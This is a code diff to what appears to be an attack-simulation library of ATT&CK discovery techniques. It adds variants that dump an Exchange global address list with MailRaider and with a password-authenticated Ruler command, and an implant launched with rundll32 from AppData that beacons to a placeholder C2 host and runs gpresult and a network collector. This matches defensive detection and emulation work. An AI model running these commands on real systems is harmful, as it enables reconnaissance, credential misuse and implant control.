@@ -53,6 +53,44 @@ export const discoveryB = [
         ],
         { shell: "ps" },
       ),
+      // MailRaider drives the running Outlook over COM: the GAL dumped, then searched for IT staff.
+      v(
+        "mailraider",
+        [
+          {
+            ps: "Import-Module {{tools}}\\MailRaider.ps1; Get-GlobalAddressList | Select-Object Name,Address | Export-Csv {{tmp}}\\gal.csv -NoTypeInformation",
+            files: ["{{tmp}}\\gal.csv"],
+          },
+          { ps: 'Invoke-SearchGAL -JobTitle "IT"' },
+        ],
+        { shell: "ps" },
+      ),
+      // Ruler authenticates to Exchange (NTLM, hard-coded workstation "RULER") and downloads the GAL over MAPI/HTTP.
+      v(
+        "ruler-gal",
+        [
+          {
+            cmd: "{{tools}}\\ruler.exe --domain {{dns}} --username {{user}} --password ******** --insecure abk dump --output {{tmp}}\\gal.txt",
+            net: [["@server", 443]],
+            files: ["{{tmp}}\\gal.txt"],
+            then: [
+              {
+                id: "auth",
+                kind: "logon",
+                host: "@server",
+                session: "ruler",
+                user: "@user",
+                logonType: 3,
+                authPackage: "NTLM",
+                source: "@workstation",
+                workstation: "RULER",
+              },
+              { id: "off", kind: "logoff", host: "@server", session: "ruler" },
+            ],
+          },
+        ],
+        { shell: "cmd" },
+      ),
       v(
         "mailsniper",
         [
@@ -248,6 +286,28 @@ export const discoveryB = [
     v("get-gpo", [{ ps: "Get-GPO -All | Select DisplayName,Id,ModificationTime", net: [["@dc", 445]] }], {
       shell: "ps",
     }),
+    // Through an implant's shell command (cmd.exe /C …): applied policy, then the built-in network/GPO collector.
+    v(
+      "implant-shell",
+      [
+        {
+          cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
+          as: "beacon",
+          elevated: true,
+          net: [["{{c2}}", 443]],
+          keep: true,
+        },
+        { cmd: "C:\\Windows\\system32\\cmd.exe /C gpresult /z", as: "c1", parent: "beacon" },
+        { cmd: "gpresult /z", parent: "c1" },
+        {
+          cmd: "C:\\Windows\\system32\\cmd.exe /C cscript.exe //nologo C:\\Windows\\System32\\gatherNetworkInfo.vbs",
+          as: "c2",
+          parent: "beacon",
+        },
+        { cmd: "cscript.exe //nologo C:\\Windows\\System32\\gatherNetworkInfo.vbs", parent: "c2" },
+      ],
+      { shell: "none" },
+    ),
     v("gpresult-html", [{ cmd: "gpresult /h {{tmp}}\\gp.html /f", files: ["{{tmp}}\\gp.html"] }]),
   ]),
   t("T1652", "Device driver discovery", "Loaded drivers with driverquery and Get-WindowsDriver.", [
